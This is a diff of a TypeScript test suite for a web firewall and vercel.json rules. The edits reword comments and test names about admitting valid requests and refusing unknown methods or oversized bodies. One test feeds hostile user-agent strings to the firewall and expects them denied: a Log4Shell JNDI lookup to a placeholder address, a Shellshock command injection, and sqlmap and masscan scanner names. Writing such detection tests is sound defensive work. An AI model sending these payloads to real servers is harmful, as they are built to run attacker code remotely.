@@ -9,7 +9,7 @@ import { apiRequests, pageRequests, requestFor } from "./testing/product-request
 import { routeMitigation } from "./testing/route-mitigation.ts";
 import { mitigatingRoutes } from "./testing/vercel-json.ts";
 
-/** What Vercel takes of a request to a function, bytes. */
+/** Largest request body that Vercel accepts for a function, bytes. */
 const PLATFORM_BODY_BYTES = 4_500_000;
 
 const pushed = compileRules(RULES.map(asPushed));
@@ -17,7 +17,7 @@ const routes = mitigatingRoutes();
 const counter = createBurstCounter({ maxKeys: 10, now: () => 0 });
 
 const byFirewall = (facts: FirewallFacts) => evaluate(pushed, facts, counter).verdict;
-/** By both ways to read an expression of `has`, which have to agree. */
+/** Checks both ways to read an expression of `has`, which have to agree. */
 const byVercelJson = (facts: FirewallFacts) => [
   ...new Set([routeMitigation(routes, facts, "search"), routeMitigation(routes, facts, "whole")]),
 ];
@@ -25,21 +25,21 @@ const nameOf = ({ method, path, contentLength }: FirewallFacts) =>
   `${method} ${path.replaceAll(/i{80}/g, "{id}")}${contentLength === null ? "" : ` of ${contentLength} bytes`}`;
 const named = (requests: readonly FirewallFacts[]) => requests.map((facts) => [nameOf(facts), facts] as const);
 
-describe("what the product takes gets through", () => {
+describe("requests of the product are admitted", () => {
   it.each(named([...apiRequests(), ...pageRequests()]))("%s", (_name, facts) => {
     expect([byFirewall(facts), ...byVercelJson(facts)]).toEqual(["pass", "pass"]);
   });
 
-  it("asks for no body that the platform would refuse", () => {
+  it("no route needs a body that the platform would refuse", () => {
     for (const route of API_ROUTES) expect(largestBody(route, DEFAULT_POLICY)).toBeLessThan(PLATFORM_BODY_BYTES);
   });
 });
 
-describe("what no route takes is stopped", () => {
+describe("requests that no route accepts are refused", () => {
   const underApi = API_ROUTES.filter(({ path }) => path.startsWith("/api/"));
   const paths = [...new Set(underApi.map(({ path }) => path))];
 
-  it.each(paths)("%s: a method that it does not have", (path) => {
+  it.each(paths)("%s: a method that the route does not have", (path) => {
     const own = underApi.filter((route) => route.path === path);
     const [route] = own;
     if (!route) throw new Error("no such route");
@@ -54,7 +54,7 @@ describe("what no route takes is stopped", () => {
     (_name, route) => {
       const facts = { ...requestFor(route), contentLength: largestBody(route, DEFAULT_POLICY) + 1 };
       expect(byFirewall(facts)).toBe("deny");
-      // What reads no body is told apart by the firewall alone; vercel.json stops what no route at all would take.
+      // Only the firewall distinguishes routes without a body; vercel.json refuses what no route at all would accept.
       const tooLarge = "body" in route ? facts : { ...facts, contentLength: PLATFORM_BODY_BYTES };
       expect(byVercelJson(tooLarge)).toEqual(["deny"]);
     },
@@ -69,7 +69,7 @@ describe("what no route takes is stopped", () => {
     },
   );
 
-  it("a scanner that says what it is, whatever else it says", () => {
+  it("a scanner that names itself, whatever else its user agent says", () => {
     for (const userAgent of ["x ${jndi:ldap://198.51.100.9/a} y", "() { :; }; id", "masscan/1.3 (x)", "a sqlmap/1.8"]) {
       const facts = { ...requestFor(API_ROUTES[0]), userAgent };
       expect([userAgent, byFirewall(facts), ...byVercelJson(facts)]).toEqual([userAgent, "deny", "deny"]);
